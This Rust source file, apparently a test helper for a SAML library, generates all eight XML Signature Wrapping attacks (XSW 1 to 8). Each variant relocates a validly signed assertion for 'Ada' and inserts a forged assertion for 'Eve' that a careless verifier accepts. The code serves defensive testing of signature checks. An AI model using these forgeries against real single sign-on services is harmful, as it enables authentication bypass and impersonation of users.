//! Signature wrapping: the eight ways to move what was signed aside and to put a forgery in its place (XSW 1 to 8, in
//! the numbering of the SAML Raider tool). Signatures still verify; whoever reads the wrong element lets Eve in.

use std::ops::Range;

const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS: &str = "http://www.w3.org/2000/09/xmldsig#";

/// Wraps a document signed for Ada into one that says Eve.
pub(crate) fn wrap(text: &str, number: u8) -> String {
    match number {
        1 | 2 => wrap_response(text, number),
        _ => wrap_assertion(text, number),
    }
}

/// The original, signature taken out, goes into the forgery's signature (1) or before it (2).
fn wrap_response(text: &str, number: u8) -> String {
    let text = text.split_once("?>").map_or(text, |(_, rest)| rest.trim());
    let signature = element(text, DS, "Signature");
    let original = format!("{}{}", &text[..signature.start], &text[signature.end..]);
    let kept = &text[signature.clone()];
    let kept = match number {
        1 => before_end_tag(kept, &original),
        _ => format!("{original}{kept}"),
    };
    format!("{}{kept}{}", forge(&text[..signature.start]), forge(&text[signature.end..]))
}

fn wrap_assertion(text: &str, number: u8) -> String {
    let place = element(text, SAML, "Assertion");
    let assertion = &text[place.clone()];
    let evil = evil_assertion(text);
    let replaced = match number {
        // The forgery stands before the original.
        3 => format!("{evil}{assertion}"),
        // The original is a child of the forgery.
        4 => before_end_tag(&evil, assertion),
        // The forgery carries the signature; the original stands after it, is inside it, or in an Object inside it.
        5 | 6 | 8 => {
            let signature = element(assertion, DS, "Signature");
            let original = format!("{}{}", &assertion[..signature.start], &assertion[signature.end..]);
            let (head, kept, tail) =
                (&assertion[..signature.start], &assertion[signature.clone()], &assertion[signature.end..]);
            let object = format!("<o:Object xmlns:o=\"{DS}\">{original}</o:Object>");
            let (kept, after) = match number {
                5 => (kept.to_owned(), original.as_str()),
                6 => (before_end_tag(kept, &original), ""),
                _ => (before_end_tag(kept, &object), ""),
            };
            format!("{}{kept}{}{after}", forge(head), forge(tail))
        }
        // The forgery is inside Extensions.
        7 => format!("<x:Extensions xmlns:x=\"{SAMLP}\">{evil}</x:Extensions>{assertion}"),
        _ => panic!("there are eight ways"),
    };
    format!("{}{replaced}{}", &text[..place.start], &text[place.end..])
}

/// The assertion of a document, unsigned, with another ID, about Eve.
pub(crate) fn evil_assertion(text: &str) -> String {
    let assertion = &text[element(text, SAML, "Assertion")];
    forge(&without_signature(assertion))
}

/// The text of the first assertion.
pub(crate) fn assertion(text: &str) -> &str {
    &text[element(text, SAML, "Assertion")]
}

fn without_signature(assertion: &str) -> String {
    match find(assertion, DS, "Signature") {
        Some(signature) => format!("{}{}", &assertion[..signature.start], &assertion[signature.end..]),
        None => assertion.to_owned(),
    }
}

fn forge(text: &str) -> String {
    text.replace("ID=\"_", "ID=\"_evil").replace("ada", "eve").replace("Ada", "Eve").replace("G-1f0c", "eve")
}

fn before_end_tag(element: &str, inserted: &str) -> String {
    let at = element.rfind("</").unwrap();
    format!("{}{inserted}{}", &element[..at], &element[at..])
}

fn element(text: &str, namespace: &str, name: &str) -> Range<usize> {
    find(text, namespace, name).unwrap_or_else(|| panic!("there is no {name}"))
}

fn find(text: &str, namespace: &str, name: &str) -> Option<Range<usize>> {
    let document = uppsala::parse(text).unwrap();
    let is =
        |node: &uppsala::NodeId| document.element(*node).is_some_and(|e| e.matches_name_ns(namespace, name));
    let node = document.descendants(document.root()).into_iter().find(is)?;
    document.node_range(node)
}
